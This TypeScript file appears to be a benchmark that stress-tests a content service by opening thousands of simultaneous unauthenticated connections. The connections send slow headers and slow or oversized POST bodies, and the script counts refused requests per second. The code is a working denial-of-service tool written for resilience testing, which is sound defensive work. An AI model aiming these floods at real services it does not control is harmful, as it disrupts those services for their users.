import { connect, type Socket } from 'node:net';
import { load } from './serve-load.ts';

// Attacks a content service without a credential, with all attacks at once:
// `node bench/siege-attacks.ts URL SECONDS`. Prints how many requests were refused in each second.
// `siege.ts` runs it in a process of its own.

const [, , service = '', seconds] = process.argv;
const { host, hostname, port } = new URL(service);
const api = '/v2025-02-19/data';
const start = (line: string) => `${line} HTTP/1.1\r\nHost: ${host}\r\n`;
const posting = (length: number) =>
  `${start(`POST ${api}/mutate/production`)}Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
const part = Buffer.alloc(1_000_000, ' ');

hold(2000, '');
hold(400, `${start('GET /')}X-Slow: `);
hold(400, `${posting(1000)}{`);
hold(20, posting(4_000_000_000), send);
const url = `${service}${api}/query/production?query=*`;
const { refused } = await load({ url, seconds: Number(seconds) });
console.log(refused);
process.exit();

/** Keeps `count` connections open that send `text`, and replaces those that are closed. */
function hold(count: number, text: string, then: (socket: Socket) => void = () => {}): void {
  for (let index = 0; index < count; index += 1) open();

  function open(): void {
    const socket = connect({ host: hostname, port: Number(port) }, () => {
      socket.write(text);
      then(socket);
    });
    socket.resume().on('error', () => {});
    socket.on('close', () => setTimeout(open, 100));
  }
}

/** Sends bytes as fast as the other end takes them. */
function send(socket: Socket): void {
  socket.write(part, (error) => error || send(socket));
}
